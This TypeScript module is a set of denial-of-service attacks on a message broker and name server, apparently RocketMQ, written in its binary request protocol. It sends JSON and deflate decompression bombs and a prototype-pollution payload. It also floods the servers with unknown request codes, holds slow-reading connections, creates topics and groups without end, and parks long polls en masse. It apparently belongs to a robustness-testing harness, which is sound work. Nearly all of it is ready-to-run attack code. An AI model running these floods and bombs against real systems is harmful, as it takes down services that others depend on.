// Attacks with whole, well-formed frames: what they carry, how many there are, and answers that nobody reads.
import type { Socket } from 'node:net'
import { deflateSync } from 'node:zlib'
import { topic } from '../kill/load.ts'
import {
  type Attack,
  type AttackContext,
  destroyAll,
  discard,
  inParallel,
  openSocket,
  openSockets,
  request,
  sleep,
  writeAll,
} from './attack.ts'

const MIB = 1024 * 1024

/** One frame per turn over connections that are opened again when the server closes them. Answers are thrown away. */
async function sendEach(
  context: AttackContext,
  address: string,
  workers: number,
  next: (turn: number) => Buffer,
): Promise<number> {
  let frames = 0
  const sockets: (Socket | null)[] = Array.from({ length: workers }, () => null)
  const loops = sockets.map(async (_, at) => {
    while (context.goesOn()) {
      let socket = sockets[at] ?? null
      if (socket === null || socket.destroyed) {
        socket = await openSocket(address)
        if (socket !== null) discard(socket)
        sockets[at] = socket
      }
      if (socket !== null) await writeAll(socket, next(frames++), context.goesOn)
      await sleep(0)
    }
  })
  await Promise.all(loops)
  for (const socket of sockets) socket?.destroy()
  return frames
}

const bombs: readonly Buffer[] = [
  Buffer.from('['.repeat(MIB)),
  Buffer.from(`${'{"a":'.repeat(MIB / 8)}1${'}'.repeat(MIB / 8)}`),
  Buffer.from(`{"consumerDataSet":${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
  Buffer.from(`{${Array.from({ length: 100_000 }, (_, at) => `"k${at}":${at}`).join(',')}}`),
  Buffer.from(`[${'0,'.repeat(MIB)}0]`),
  Buffer.from(`{"clientID":"${'x'.repeat(2 * MIB)}"}`),
  Buffer.from(`{"mqSet":[${'{"topic":"t","queueId":0},'.repeat(40_000)}{}]}`),
  Buffer.from('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  Buffer.from(`{"groupName":${'1'.repeat(300_000)}}`),
  Buffer.from(`{"groupName":1e${'9'.repeat(100)},"retryMaxTimes":-1e308}`),
  Buffer.from(`"${'\\ud800'.repeat(100_000)}"`),
  Buffer.from('null'),
  Buffer.from('\ufeff{}'),
]

/** Codes of the broker whose body is JSON. */
const JSON_BODY_CODES = [18, 34, 41, 42, 46, 200, 222, 225] as const

/** Bodies that are small to send and large, deep or odd to read. */
export const jsonBombs: Attack = async (context) => {
  const bomb = (turn: number): Buffer => bombs[turn % bombs.length] ?? Buffer.alloc(0)
  const [broker, namesrv] = await Promise.all([
    sendEach(context, context.broker, 2, (turn) => {
      const code = JSON_BODY_CODES[Math.floor(turn / bombs.length) % JSON_BODY_CODES.length] ?? 34
      return request(code, { consumerGroup: 'g', clientID: 'c', topic: 't' }, bomb(turn))
    }),
    sendEach(context, context.namesrv, 1, (turn) =>
      request(103, registration(`bomb-${turn}`), bomb(turn)),
    ),
  ])
  return { broker, namesrv }
}

function registration(brokerName: string): Record<string, string> {
  const names = { brokerName, brokerAddr: '127.0.0.1:1', clusterName: 'bombs', brokerId: '0' }
  return { ...names, haServerAddr: '127.0.0.1:2', compressed: 'false', bodyCrc32: '0' }
}

function lengthPrefixed(text: string): Buffer {
  const bytes = Buffer.from(text)
  return Buffer.concat([int32(bytes.length), bytes])
}

function int32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeInt32BE(value)
  return bytes
}

/** A compressed registration: data version, count of topics, each topic, filter servers; all with their lengths. */
function compressedRegistration(
  version: string,
  topics: readonly string[],
  filters: string,
): Buffer {
  const table = [int32(topics.length), ...topics.map(lengthPrefixed)]
  const parts = [lengthPrefixed(version), ...table, lengthPrefixed(filters)]
  return deflateSync(Buffer.concat(parts))
}

/** Kilobytes on the wire that become hundreds of megabytes, or millions of objects, once they are inflated and read. */
export const zipBombs: Attack = async (context) => {
  const version = '{"counter":1,"stateVersion":0,"timestamp":1}'
  const names = Array.from({ length: 900_000 }, (_, at) => `T${at} 8 8 6 SINGLE_TAG`)
  const valid = compressedRegistration(version, ['T 8 8 6 SINGLE_TAG'], '[]')
  const bodies = [
    deflateSync(Buffer.alloc(256 * MIB), { level: 9 }),
    compressedRegistration(`{"x":[${'{},'.repeat(4 * MIB)}0]}`, [], '[]'),
    compressedRegistration(version, [], `[${'"",'.repeat(8 * MIB)}""]`),
    compressedRegistration(version, names, '[]'),
    compressedRegistration(version, Array<string>(MIB).fill('T 8 8 6 SINGLE_TAG'), '[]'),
    valid.subarray(0, valid.length / 2),
    Buffer.alloc(100),
  ]
  const frames = await sendEach(context, context.namesrv, 2, (turn) => {
    const body = bodies[turn % bodies.length] ?? valid
    return request(103, { ...registration(`zip-${turn}`), compressed: 'true' }, body)
  })
  return { frames }
}

/** Codes that nobody serves, with and without an answer wanted. */
export const unknownCodes: Attack = async (context) => {
  const block = (turn: number): Buffer => {
    const codes = Array.from({ length: 100 }, (_, at) => 60_000 + turn * 100 + at)
    return Buffer.concat(codes.map((code) => request(code % 2 === 0 ? code : -code, { a: 'b' })))
  }
  const [broker, namesrv] = await Promise.all([
    sendEach(context, context.broker, 4, block),
    sendEach(context, context.namesrv, 2, block),
  ])
  return { requests: (broker + namesrv) * 100 }
}

/** Pulls of everything there is, over connections that never read a byte. */
export const slowReaders: Attack = async (context) => {
  const { broker, goesOn } = context
  const sockets = await openSockets(broker, 60)
  const names = { consumerGroup: 'never_reads', topic, queueOffset: 0, maxMsgNums: 1024 }
  const rest = { sysFlag: 4, commitOffset: 0, suspendTimeoutMillis: 0, subscription: '*' }
  const pulls = Array.from({ length: 64 }, (_, at) =>
    request(11, { ...names, queueId: at % 8, ...rest, subVersion: 0, expressionType: 'TAG' }),
  )
  const block = Buffer.concat(pulls)
  let requests = 0
  await Promise.all(
    sockets.map(async (socket) => {
      socket.pause()
      while (goesOn() && !socket.destroyed) {
        await writeAll(socket, block, goesOn)
        requests += pulls.length
      }
    }),
  )
  destroyAll(sockets)
  return { connections: sockets.length, requests }
}

/** Topics, groups and offsets made up as fast as they can be sent. */
export const topicExplosion: Attack = async (context) => {
  const sends = (turn: number): Buffer => {
    const name = `explosion-${turn}-${context.random.below(1 << 30)}`
    const send = { a: 'p', b: name, c: 'TBW102', d: 8, e: 0, f: 0, g: 0, h: 0, i: '' }
    const offset = { consumerGroup: name, topic: name, queueId: turn % 16, commitOffset: turn }
    const group = { groupName: name, retryQueueNums: 1000 }
    const client = {
      clientID: name,
      consumerDataSet: [{ groupName: name, subscriptionDataSet: [] }],
      producerDataSet: [{ groupName: name }],
    }
    return Buffer.concat([
      request(310, { ...send, j: 0, k: false, l: 0, m: false }, Buffer.from('x')),
      request(15, offset),
      request(200, {}, Buffer.from(JSON.stringify(group))),
      request(34, {}, Buffer.from(JSON.stringify(client))),
      request(17, { topic: `${name}-t`, ...MANY_QUEUES }),
    ])
  }
  return { turns: await sendEach(context, context.broker, 4, sends) }
}

const MANY_QUEUES = {
  defaultTopic: 'TBW102',
  readQueueNums: 1000,
  writeQueueNums: 1000,
  perm: 6,
  topicFilterType: 'SINGLE_TAG',
  topicSysFlag: 0,
  order: false,
}

/** Headers with a hundred thousand fields, properties of thousands of entries, and too long ones. */
export const hugeMaps: Attack = async (context) => {
  const send = { a: 'p', b: topic, c: 'TBW102', d: 4, e: 0, f: 0, g: 0, h: 0, j: 0, k: false, l: 0 }
  const properties = (count: number): string =>
    Array.from({ length: count }, (_, at) => `k${at}\u0001v\u0002`).join('')
  const manyFields = Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => [`k${at}`, at]))
  const someFields = Object.fromEntries(Array.from({ length: 4000 }, (_, at) => [`k${at}`, at]))
  const frames = [
    request(310, { ...send, i: properties(3000), m: false }),
    request(310, { ...send, i: properties(10_000), m: false }),
    request(310, { ...send, i: '\u0001\u0002'.repeat(10_000), m: false }),
    request(310, { ...send, i: 'x'.repeat(40_000), m: false }),
    request(310, { ...send, ...someFields, i: '', m: false }),
    request(105, manyFields),
    request(310, { ...send, i: '', m: false }, Buffer.alloc(5 * MIB)),
  ]
  const next = (turn: number): Buffer => frames[turn % frames.length] ?? Buffer.alloc(0)
  const [broker, namesrv] = await Promise.all([
    sendEach(context, context.broker, 3, next),
    sendEach(context, context.namesrv, 1, () => request(105, someFields)),
  ])
  return { broker, namesrv }
}

/** Long polls beyond any number that a consumer needs. */
export const parkedPulls: Attack = async (context) => {
  const fields = { consumerGroup: 'parks', topic, queueOffset: 1 << 30, maxMsgNums: 32, sysFlag: 6 }
  const rest = { commitOffset: 0, suspendTimeoutMillis: 60_000, subscription: '*', subVersion: 0 }
  const block = Buffer.concat(
    Array.from({ length: 100 }, (_, at) => request(11, { ...fields, ...rest, queueId: at % 8 })),
  )
  let pulls = 0
  const sockets = await openSockets(context.broker, 200)
  for (const socket of sockets) discard(socket)
  await inParallel(context, 8, async () => {
    const socket = sockets[pulls % sockets.length]
    pulls++
    if (socket !== undefined) await writeAll(socket, block, context.goesOn)
  })
  destroyAll(sockets)
  return { pulls: pulls * 100 }
}
